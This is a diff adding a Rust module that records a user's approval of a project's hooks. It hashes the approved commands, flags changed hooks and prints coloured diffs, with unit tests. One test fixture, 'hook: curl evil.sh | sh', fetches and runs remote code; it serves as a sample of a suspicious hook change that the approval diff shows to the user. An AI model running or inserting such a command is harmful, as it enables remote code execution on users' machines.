@@ -0,0 +1,81 @@
+use owo_colors::OwoColorize;
+use serde::{Deserialize, Serialize};
+use sha2::{Digest, Sha256};
+
+/// Hooks of a project the user approved, as they were when approved.
+#[derive(Debug, Clone, Eq, PartialEq, Serialize, Deserialize)]
+pub struct Approval {
+    pub hash: String,
+    pub commands: Vec<String>,
+}
+
+impl Approval {
+    pub fn new(commands: Vec<String>) -> Self {
+        Self {
+            hash: hash(&commands),
+            commands,
+        }
+    }
+}
+
+#[derive(Debug, Eq, PartialEq)]
+pub enum Trust {
+    Allowed,
+    /// The project was never approved.
+    Unknown,
+    /// The project was approved, but its hooks changed since then.
+    Changed(Approval),
+}
+
+pub fn hash(commands: &[String]) -> String {
+    let mut hasher = Sha256::new();
+    for command in commands {
+        hasher.update(command.as_bytes());
+        hasher.update(b"\0");
+    }
+    format!("{:x}", hasher.finalize())
+}
+
+/// Lists the commands that are gone and the ones that showed up, in this order.
+pub fn diff(old: &[String], new: &[String]) -> String {
+    let removed = old
+        .iter()
+        .filter(|command| !new.contains(command))
+        .map(|command| format!("- {}", command).red().to_string());
+    let added = new
+        .iter()
+        .filter(|command| !old.contains(command))
+        .map(|command| format!("+ {}", command).green().to_string());
+    removed.chain(added).collect::<Vec<String>>().join("\n")
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn commands(commands: &[&str]) -> Vec<String> {
+        commands.iter().map(|c| c.to_string()).collect()
+    }
+
+    #[test]
+    fn hash_depends_on_every_command() {
+        let approval = Approval::new(commands(&["hook: echo hello"]));
+        assert_eq!(approval.hash, hash(&commands(&["hook: echo hello"])));
+        assert_ne!(approval.hash, hash(&commands(&["hook: echo hell", "o"])));
+        assert_ne!(approval.hash, hash(&commands(&[])));
+    }
+
+    #[test]
+    fn diff_shows_removed_and_added_commands() {
+        let old = commands(&["hook: npm ci", "env: NODE_ENV='development'"]);
+        let new = commands(&["hook: curl evil.sh | sh", "env: NODE_ENV='development'"]);
+        assert_eq!(
+            diff(&old, &new),
+            format!(
+                "{}\n{}",
+                "- hook: npm ci".red(),
+                "+ hook: curl evil.sh | sh".green()
+            )
+        );
+    }
+}